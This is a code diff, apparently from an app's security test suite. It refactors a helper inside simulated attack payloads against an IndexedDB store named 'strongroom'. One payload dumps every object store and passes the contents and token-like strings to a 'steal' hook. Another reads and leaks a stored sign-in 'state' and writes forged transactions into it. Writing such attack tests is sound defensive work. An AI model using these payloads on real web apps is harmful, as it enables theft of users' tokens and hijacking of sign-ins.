@@ -35,15 +35,10 @@ export const unregisterDuringSignIn = attack({
     );
   },
   async payload(it) {
-    const done = <T>(request: IDBRequest<T>) =>
-      new Promise<T>((resolve, reject) => {
-        request.onsuccess = () => resolve(request.result);
-        request.onerror = () => reject(request.error);
-      });
-    const database = await done(indexedDB.open("strongroom"));
+    const database = await it.done(indexedDB.open("strongroom"));
     for (const name of database.objectStoreNames) {
       const store = database.transaction(name).objectStore(name);
-      const all = JSON.stringify([await done(store.getAllKeys()), await done(store.getAll())]);
+      const all = JSON.stringify([await it.done(store.getAllKeys()), await it.done(store.getAll())]);
       it.steal(all, ...(all.match(/[\w-]{43,}/g) ?? []));
     }
     database.close();
@@ -178,14 +173,9 @@ export const tracesOfASignIn = attack({
   target: "the app's origin",
   // Tries every stored value that may be a `state`, and adds forged stored transactions for its own states.
   async payload(it) {
-    const done = <T>(request: IDBRequest<T>) =>
-      new Promise<T>((resolve, reject) => {
-        request.onsuccess = () => resolve(request.result);
-        request.onerror = () => reject(request.error);
-      });
-    const database = await done(indexedDB.open("strongroom"));
+    const database = await it.done(indexedDB.open("strongroom"));
     const values = () => database.transaction("values", "readwrite").objectStore("values");
-    const text: string = await done(values().get("state"));
+    const text: string = await it.done(values().get("state"));
     const row = JSON.parse(text);
     it.steal(text);
     (window as { found?: string[] }).found = text.match(/[\w-]{22,}/g) ?? [];
@@ -201,7 +191,7 @@ export const tracesOfASignIn = attack({
         .replace(/=+$/, "");
       row.transactions.push([name, `${kind} ${Date.now()} /`, Date.now() + 600_000]);
     }
-    await done(values().put(JSON.stringify(row), "state"));
+    await it.done(values().put(JSON.stringify(row), "state"));
     database.close();
   },
   async play(stage) {
